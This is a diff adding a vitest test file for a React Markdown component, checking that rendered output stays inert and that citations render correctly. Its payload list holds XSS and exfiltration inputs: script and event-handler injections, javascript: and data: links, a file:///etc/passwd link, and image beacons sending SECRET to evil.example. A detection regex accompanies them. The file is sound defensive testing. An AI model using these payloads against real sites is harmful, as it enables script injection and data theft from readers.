@@ -1,0 +1,61 @@
+import { createElement } from 'react'
+import { renderToStaticMarkup } from 'react-dom/server'
+import { describe, expect, test } from 'vitest'
+import { Markdown } from './markdown.tsx'
+
+const payloads = [
+  '![x](https://evil.example/?d=SECRET)',
+  '![x][r]\n\n[r]: https://evil.example/r.png',
+  '<img src="https://evil.example/i.png" onerror="alert(1)">',
+  '<img src=x onerror=alert(1)//',
+  '<script>fetch("https://evil.example")</script>',
+  '<iframe src="https://evil.example"></iframe>',
+  '<svg onload=alert(1)><animate onbegin=alert(2)></svg>',
+  '<style>@import "https://evil.example"</style>',
+  '<link rel="preload" as="image" href="https://evil.example/l.png">',
+  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
+  '<form action="https://evil.example"><input name=q></form>',
+  '<video src="https://evil.example/v.mp4" autoplay></video>',
+  '<object data="https://evil.example"></object><embed src="https://evil.example">',
+  '<base href="https://evil.example">',
+  '[a](javascript:alert(1))',
+  '[a](JaVaScRiPt:alert(1))',
+  '[a](&#106;avascript:alert(1))',
+  '[a](java\tscript:alert(1))',
+  '[a](data:text/html,<script>alert(1)</script>)',
+  '[a](vbscript:msgbox(1))',
+  '[a](file:///etc/passwd)',
+  '[a](blob:https://evil.example/1)',
+  '<javascript:alert(1)>',
+  '![a](data:image/svg+xml;base64,PHN2Zz4=)',
+  '[![a](https://evil.example/in-a-link.png)](https://evil.example)',
+  '| a |\n| - |\n| ![x](//evil.example/t.png) |',
+  '[^1]\n\n[^1]: ![x](https://evil.example/f.png)',
+  '[1](#citation-1) <a href="#citation-1" onclick="alert(1)">1</a>',
+]
+
+const html = (text: string) => renderToStaticMarkup(createElement(Markdown, { text, renderCitation: (number) => `(${number})` }))
+/** What would be fetched, run or led to without the reader's doing: elements that load, handlers, targets that are no page. */
+const DANGEROUS =
+  /<(?:img|script|iframe|svg|style|link|meta|form|input|video|audio|object|embed|base)\b|<[^>]*\s(?:on\w+|src)=|href="(?!https?:|mailto:|#|\/|[^":]*")/i
+
+describe('what somebody else wrote', () => {
+  test.each(payloads)('is inert at every moment of its coming: %s', (payload) => {
+    for (let end = 1; end <= payload.length; end += 1) expect(html(payload.slice(0, end))).not.toMatch(DANGEROUS)
+  })
+
+  test('links outwards say so and give nothing away', () => {
+    expect(html('[there](https://example.org)')).toContain('href="https://example.org" rel="noopener noreferrer nofollow ugc" target="_blank"')
+  })
+})
+
+describe('a citation', () => {
+  test('is what stands as [1] in the text', () => {
+    expect(html('Said so. [1] And so [2][3].')).toContain('Said so. (1) And so (2)(3).')
+  })
+
+  test('is not what was quoted as [1], nor what stands in code, in a link or as a footnote', () => {
+    expect(html(String.raw`As \[1\] says. [2]`)).toContain('As [1] says. (2)')
+    expect(html('`list[1]` and [see [1] there](https://example.org)')).not.toContain('(1)')
+  })
+})
